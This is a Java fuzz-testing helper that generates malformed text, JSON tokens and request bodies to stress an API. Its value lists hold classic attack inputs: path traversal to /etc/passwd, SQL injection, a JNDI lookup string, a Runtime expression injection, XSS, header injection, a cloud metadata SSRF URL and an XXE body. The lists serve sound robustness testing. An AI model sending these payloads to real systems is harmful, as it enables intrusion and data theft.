package io.hooktrail.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;

/** Values that break what was not made for them. No URL among them leads anywhere outside. */
record Hostile(Random random) {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "null",
            "-1",
            "0",
            "99999999999999999999",
            "NaN",
            "true",
            "\u0000",
            "a\u0000b",
            "\ud800",
            "\udc00\ud800",
            "\ufffe\uffff",
            "\u202e\u200b\u0301",
            "\ud83d\ude80".repeat(60),
            "x".repeat(300),
            "x".repeat(9_000),
            "a\r\nX-Injected: 1",
            "a\nX-Injected: 1\n\n<html>",
            "../../../../etc/passwd",
            "'; drop table account; --",
            "%' or 1=1 --",
            "${jndi:ldap://receiver.invalid/a}",
            "#{T(java.lang.Runtime).getRuntime()}",
            "<script>alert(1)</script>",
            "*",
            "*.*",
            "[instant]",
            "booking[.confirmed",
            "2026-11-22",
            "2026-13-45T99:99:99Z",
            "+999999999-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "2026-11-22T10:00:00+99:99",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "0-0-0-0-0",
            "http://receiver.invalid:99999/",
            "http://[::1%25lo]/",
            "http://127.0.0.1\\@receiver.invalid/",
            "http://169.254.169.254/latest/meta-data/",
            "https://user:password@receiver.invalid/",
            "https://receiver.invalid/\r\nX-Injected: 1",
            "htk_",
            "Europe/Nowhere",
            "admin,super_admin",
            "5xx,4xx,0xx,999999999999",
            "-created_at,-id",
            "\"",
            "\\");

    private static final List<String> TOKENS = List.of(
            "null",
            "true",
            "\"text\"",
            "0",
            "-1",
            "-0.0",
            "1.5",
            "1e400",
            "-1e999999999",
            "1e-999999999",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "9".repeat(1_000),
            "0." + "1".repeat(1_000),
            "NaN",
            "Infinity",
            "01",
            "+1",
            "0x10",
            "{}",
            "[]",
            "[null]",
            "[[]]",
            "[{}]",
            "{\"\":null}",
            "{\"a\":1,\"a\":2}",
            "{\"$ref\":\"#\"}",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\udfff\\ud800\"",
            "\"\\q\"",
            "\"\u0001\"",
            "'text'",
            "undefined",
            "/**/1",
            "[".repeat(10_000) + "]".repeat(10_000),
            "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000),
            "[".repeat(50_000),
            "\"" + "x".repeat(100_000) + "\"",
            "[" + "1,".repeat(20_000) + "1]");

    private static final List<String> BODIES = List.of(
            "",
            " ",
            "\ufeff{}",
            "{",
            "}",
            "[]",
            "[{}]",
            "null",
            "\"text\"",
            "1",
            "{}{}",
            "{\"a\"}",
            "{\"a\":}",
            "{,}",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "a=b&c=d",
            "\u0000\u0001\u0002");

    String text() {
        return random.nextInt(8) == 0 ? cursor() : pick(TEXTS);
    }

    String token() {
        return pick(TOKENS);
    }

    byte[] body() {
        if (random.nextInt(3) == 0) {
            byte[] noise = new byte[random.nextInt(400)];
            random.nextBytes(noise);
            return noise;
        }
        String body = random.nextInt(12) == 0 ? "{\"name\":\"" + "x".repeat(6_000_000) + "\"}" : pick(BODIES);
        return body.getBytes(random.nextInt(6) == 0 ? StandardCharsets.UTF_16 : StandardCharsets.UTF_8);
    }

    /** Looks like the cursors that the API gives out. */
    private String cursor() {
        byte[] noise = new byte[1 + random.nextInt(60)];
        random.nextBytes(noise);
        byte[] inside = random.nextBoolean() ? noise : "{\"at\":1e999,\"id\":[]}".getBytes(StandardCharsets.UTF_8);
        return Base64.getUrlEncoder().withoutPadding().encodeToString(inside);
    }

    <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }
}
